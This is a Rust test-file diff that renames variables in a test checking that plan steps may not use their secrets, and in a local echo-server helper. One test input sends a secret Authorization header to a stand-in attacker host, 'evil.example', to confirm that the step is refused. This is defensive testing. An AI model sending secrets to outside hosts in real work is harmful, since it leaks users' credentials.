@@ -72,7 +72,7 @@ fn plan_that_may_not_use_its_secrets_is_rejected() {
         ] {
             put(&step).await.unwrap_or_else(|error| panic!("{step}: {error}"));
         }
-        for (step, field, says) in [
+        for (step, field, expected) in [
             (
                 format!("get = 'https://evil.example/'\n{header}"),
                 "headers.Authorization",
@@ -101,7 +101,7 @@ fn plan_that_may_not_use_its_secrets_is_rejected() {
             match put(&step).await {
                 Err(Error::Secret { field: found, refused }) => {
                     assert_eq!(found, format!("step.s.{field}"), "{step}");
-                    assert!(refused.to_string().contains(says), "{step}: {refused}");
+                    assert!(refused.to_string().contains(expected), "{step}: {refused}");
                 }
                 other => panic!("{step}: {other:?}"),
             }
@@ -126,23 +126,23 @@ fn plan_that_may_not_use_its_secrets_is_rejected() {
     });
 }
 
-/// Echoes every request in its response, and records it.
+/// Starts a server that records every request and echoes it in the response.
 async fn echo() -> (u16, Arc<Mutex<Vec<String>>>) {
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let port = listener.local_addr().unwrap().port();
     let requests: Arc<Mutex<Vec<String>>> = Arc::default();
-    let keep = Arc::clone(&requests);
+    let recorded = Arc::clone(&requests);
     tokio::spawn(async move {
         while let Ok((mut stream, _)) = listener.accept().await {
             let mut head = Vec::new();
             while !head.ends_with(b"\r\n\r\n") && stream.read_buf(&mut head).await.unwrap_or(0) > 0 {}
             let head = String::from_utf8(head).unwrap();
-            let answer = format!(
+            let response = format!(
                 "HTTP/1.1 400 Bad\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{head}",
                 head.len()
             );
-            keep.lock().unwrap().push(head);
-            let _ = stream.write_all(answer.as_bytes()).await;
+            recorded.lock().unwrap().push(head);
+            let _ = stream.write_all(response.as_bytes()).await;
         }
     });
     (port, requests)
